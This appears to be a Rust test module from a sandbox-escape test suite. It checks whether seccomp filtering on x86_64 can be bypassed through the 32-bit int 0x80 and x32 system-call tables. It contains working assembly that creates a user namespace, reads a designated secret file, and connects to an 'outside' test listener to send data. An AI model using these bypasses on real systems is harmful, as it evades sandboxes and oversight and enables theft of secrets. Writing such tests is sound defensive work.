//! Calls by another door: the 32-bit and x32 tables of x86_64 have other numbers for the same calls.

use std::fs;

use defenseclaw_testkit::escape::scene::Scene;
use nix::libc;

use crate::case::{ALL, Case, NAMED_HOSTS, SECCOMP, Theme, case};
use crate::sys::{Attempt, Refused, absent, call, in_child, refused};

pub(crate) const THEME: Theme = Theme {
    name: "other tables",
    cases: CASES,
};

const CASES: &[Case] = &[
    case!("int80-unshare": "makes a user namespace by int 0x80", |_| namespace_by(&|| door(310, [libc::CLONE_NEWUSER as u32, 0, 0]));
          twin "asks for its process id by the ordinary door", own_id; ALL, SECCOMP),
    case!("int80-open": "opens the secret by int 0x80", int80_open;
          twin "opens the README by the ordinary door", |s| {
              Ok(format!("{} bytes", fs::read(s.project.join("README"))?.len()))
          }; ALL, SECCOMP),
    case!("int80-connect": "connects to a listener outside by int 0x80 and socketcall", int80_connect;
          twin "asks for its process id by the ordinary door", own_id; NAMED_HOSTS, SECCOMP, judge Outside),
    case!("x32-unshare": "makes a user namespace by an x32 call", |_| {
              namespace_by(&|| {
                  let number = libc::SYS_unshare | 0x4000_0000;
                  call("unshare", number, &[libc::CLONE_NEWUSER.into()])
              })
          }; twin "asks for its process id by the ordinary door", own_id; ALL, SECCOMP),
];

fn own_id(_: &Scene) -> Attempt {
    Ok(call("getpid", libc::SYS_getpid, &[])?.to_string())
}

/// Whether a call made by another door has put the caller into another user namespace.
fn namespace_by(act: &dyn Fn() -> Result<i64, Refused>) -> Attempt {
    if !cfg!(target_arch = "x86_64") {
        return absent("this architecture has one table of calls");
    }
    guarded(|| {
        let before = fs::read_link("/proc/self/ns/user")?;
        act()?;
        let after = fs::read_link("/proc/self/ns/user")?;
        if before == after {
            return refused("still in the same namespace");
        }
        Ok(format!("in {}", after.display()))
    })
}

/// A kernel without 32-bit calls ends the process that tries one.
fn guarded(act: impl FnOnce() -> Attempt) -> Attempt {
    match in_child(act) {
        Ok(attempt) => attempt,
        Err(nix::sys::signal::Signal::SIGSEGV) => absent("the kernel has no 32-bit calls"),
        Err(signal) => refused(format!("ended by {signal}")),
    }
}

/// A 32-bit call.
#[cfg(target_arch = "x86_64")]
fn door(number: u32, arguments: [u32; 3]) -> Result<i64, Refused> {
    let result: i32;
    let [first, second, third] = arguments;
    // SAFETY: pointers among the arguments lead to memory that lives for the call and that the kernel only reads; rbx, which
    // the compiler keeps for itself, is put back.
    unsafe {
        std::arch::asm!(
            "xchg {first:r}, rbx",
            "int 0x80",
            "xchg {first:r}, rbx",
            first = inout(reg) u64::from(first) => _,
            inlateout("eax") number => result,
            in("ecx") second,
            in("edx") third,
            in("esi") 0,
            in("edi") 0,
            lateout("r8") _,
            lateout("r9") _,
            lateout("r10") _,
            lateout("r11") _,
        );
    }
    if result < 0 {
        return Err(Refused::from(std::io::Error::from_raw_os_error(-result)).during("int 0x80"));
    }
    Ok(result.into())
}

#[cfg(not(target_arch = "x86_64"))]
fn door(_: u32, _: [u32; 3]) -> Result<i64, Refused> {
    absent("this architecture has one table of calls")
}

/// Bytes at an address that 32 bits can hold.
#[cfg(target_arch = "x86_64")]
fn low(bytes: &[u8]) -> Result<u32, Refused> {
    // SAFETY: a new mapping at an address of the kernel's choice, which lives as long as the process.
    let mapping = unsafe {
        libc::mmap(
            std::ptr::null_mut(),
            bytes.len(),
            libc::PROT_READ | libc::PROT_WRITE,
            libc::MAP_PRIVATE | libc::MAP_ANONYMOUS | libc::MAP_32BIT,
            -1,
            0,
        )
    };
    if mapping == libc::MAP_FAILED {
        return Err(std::io::Error::last_os_error().into());
    }
    // SAFETY: the mapping is as long as the bytes, writable, and nobody else's.
    unsafe { std::ptr::copy_nonoverlapping(bytes.as_ptr(), mapping.cast(), bytes.len()) };
    u32::try_from(mapping.expose_provenance()).map_err(|error| Refused::By(error.to_string()))
}

#[cfg(not(target_arch = "x86_64"))]
fn low(_: &[u8]) -> Result<u32, Refused> {
    absent("this architecture has one table of calls")
}

fn int80_open(scene: &Scene) -> Attempt {
    use std::os::unix::ffi::OsStrExt as _;
    let mut name = scene.secret.as_os_str().as_bytes().to_vec();
    name.push(0);
    guarded(|| {
        let descriptor = door(5, [low(&name)?, libc::O_RDONLY as u32, 0])?;
        crate::case::loot(&fs::read(format!("/proc/self/fd/{descriptor}"))?)
    })
}

fn int80_connect(scene: &Scene) -> Attempt {
    let words = |words: &[u32]| {
        let bytes: Vec<u8> = words.iter().flat_map(|word| word.to_ne_bytes()).collect();
        low(&bytes)
    };
    guarded(|| {
        // socketcall: SYS_SOCKET 1, SYS_CONNECT 3, SYS_SEND 9.
        let socket = [libc::AF_INET as u32, libc::SOCK_STREAM as u32, 0];
        let socket = door(102, [1, words(&socket)?, 0])? as u32;
        let mut address = vec![2, 0];
        address.extend(scene.outside.tcp.to_be_bytes());
        address.extend([127, 0, 0, 1, 0, 0, 0, 0, 0, 0, 0, 0]);
        door(102, [3, words(&[socket, low(&address)?, 16])?, 0])?;
        let text = defenseclaw_testkit::escape::scene::DEFACED.as_bytes();
        door(102, [9, words(&[socket, low(text)?, text.len() as u32, 0])?, 0])?;
        Ok("sent".to_owned())
    })
}
